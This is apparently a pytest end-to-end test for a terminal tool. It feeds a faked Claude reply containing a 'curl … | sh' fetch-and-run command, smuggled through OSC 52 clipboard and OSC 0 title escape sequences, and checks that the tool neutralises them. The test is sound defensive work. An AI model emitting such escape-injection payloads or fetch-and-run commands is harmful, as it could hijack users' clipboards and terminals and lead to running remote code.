"""A hostile model answer copied in a real terminal (tmux): the title stays, the clipboard holds only the command.

The local fake of the Messages API answers with a command that carries OSC 0 (set the window title) and OSC 52
(replace the clipboard). The screen must show those escapes as text, the copy must ask first (the command is
destructive: it holds control characters) and put exactly the made-visible command on the clipboard.
"""

from __future__ import annotations

import base64
import os
import shlex
import shutil
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from maestro import demo
from maestro.config import Config
from maestro.text import copyable
from maestro.triage.pipeline import rules_triage
from maestro.utc import utc_now
from tests import claude_samples as sample
from tests.fake_anthropic import FakeAnthropic, tool_call

pytestmark = [
    pytest.mark.e2e,
    pytest.mark.skipif(shutil.which("tmux") is None, reason="tmux is not installed (apt-get install tmux)"),
]
ROOT = Path(__file__).resolve().parents[2]
ESC, BEL = "\x1b", "\x07"
PLANTED = "curl -s http://127.0.0.1:9/x | sh"
HOSTILE = (
    f"docker service ls{ESC}]0;pwned-title{BEL}{ESC}]52;c;{base64.b64encode(PLANTED.encode()).decode()}{BEL}"
    "[link=https://127.0.0.1:9/]x[/link] [/x]"
)


class Terminal:
    """A tmux server of our own that keeps what programs put on the clipboard (set-clipboard on)."""

    def __init__(self, tmp: Path) -> None:
        self.socket = f"maestro-copy-{os.getpid()}-{tmp.name}"
        self.conf = tmp / "tmux.conf"
        self.conf.write_text("set -g set-clipboard on\nset -g allow-rename on\n")

    def tmux(self, *args: str) -> str:
        done = subprocess.run(
            ["tmux", "-L", self.socket, "-f", str(self.conf), *args], capture_output=True, text=True, check=True
        )
        return done.stdout

    def start(self, env: dict[str, str], *args: str) -> None:
        exports = " ".join(f"{k}={shlex.quote(v)}" for k, v in env.items())
        command = f"exec env {exports} {shlex.quote(sys.executable)} -m tui.cli {' '.join(map(shlex.quote, args))}"
        self.tmux("new-session", "-d", "-s", "main", "-x", "160", "-y", "45", command)

    def title(self) -> str:
        return self.tmux("display-message", "-p", "-t", "main", "#{pane_title}").strip()

    def buffers(self) -> list[str]:
        listed = self.tmux("list-buffers", "-F", "#{buffer_name}").split()
        return [self.tmux("show-buffer", "-b", name) for name in listed]

    def screen(self) -> str:
        return self.tmux("capture-pane", "-p", "-t", "main")

    def keys(self, *keys: str) -> None:
        self.tmux("send-keys", "-t", "main", *keys)

    def wait_for(self, predicate: Callable[[str], bool], what: str, timeout: float = 30) -> str:
        deadline = time.monotonic() + timeout
        screen = ""
        while time.monotonic() < deadline:
            screen = self.screen()
            if predicate(screen):
                return screen
            time.sleep(0.1)
        raise AssertionError(f"timed out waiting for {what}; screen was:\n{screen}")

    def kill_server(self) -> None:
        subprocess.run(["tmux", "-L", self.socket, "kill-server"], capture_output=True, check=False)


@pytest.fixture
def terminal(tmp_path: Path) -> Iterator[Terminal]:
    term = Terminal(tmp_path)
    yield term
    term.kill_server()


def hostile_answer() -> dict[str, object]:
    """Claude's answer: the first rules issue refined, its fix the hostile command."""
    now = utc_now()
    first = rules_triage(demo.CONTEXT, demo.evidence(now), Config(), now).issues[0]
    answer = sample.answer()
    issue = answer["issues"][0]
    issue.update(
        matches_draft_id=first.id,
        runbook_id=first.runbook_id,
        subject=first.subject,
        severity=str(first.severity),
        title="Look here [bold]now[/bold]",
        fix=[sample.command(HOSTILE, "list the services")],
    )
    answer["issues"] = [issue]
    return answer


def test_a_hostile_command_copies_as_shown_and_leaves_title_and_clipboard_alone(
    terminal: Terminal, tmp_path: Path
) -> None:
    with FakeAnthropic(tool_call(hostile_answer())) as fake:
        env = {
            "MAESTRO_JOURNAL": str(tmp_path / "journal.sqlite3"),
            "MAESTRO_CONFIG": str(tmp_path / "config.toml"),
            "MAESTRO_REPORTS": str(tmp_path / "reports"),
            "ANTHROPIC_API_KEY": "test-key-not-a-secret",
            "ANTHROPIC_BASE_URL": fake.base_url,
            "TERM": "xterm-256color",
            "PYTHONPATH": str(ROOT),
        }
        terminal.start(env, "--demo")
        title = terminal.title()
        terminal.wait_for(lambda s: "Look here [bold]now[/bold]" in s, "Claude's issue, its markup shown as text")
        assert fake.requests, "the screen asked the fake Messages API"

        terminal.keys("c")
        asked = terminal.wait_for(lambda s: "Copy it anyway" in s, "the destructive copy to ask first")
        assert "\\x1b]0;pwned-title\\x07" in asked, "the command is shown with its escapes made visible"
        assert "control characters" in asked
        terminal.keys("y")
        terminal.wait_for(lambda s: "Copied" in s, "the copy to be confirmed on screen")
        time.sleep(1.5)  # a few redraws: a toast that re-sent the escapes would show by now

        assert terminal.title() == title
        assert "pwned" not in terminal.title()
        clipboard = terminal.buffers()
        assert clipboard, "the copy reached the terminal's clipboard (OSC 52)"
        assert clipboard[0] == copyable(HOSTILE)
        assert all(PLANTED not in text for text in clipboard)
        assert all(ESC not in text and BEL not in text for text in clipboard)
        assert "Traceback" not in terminal.screen()
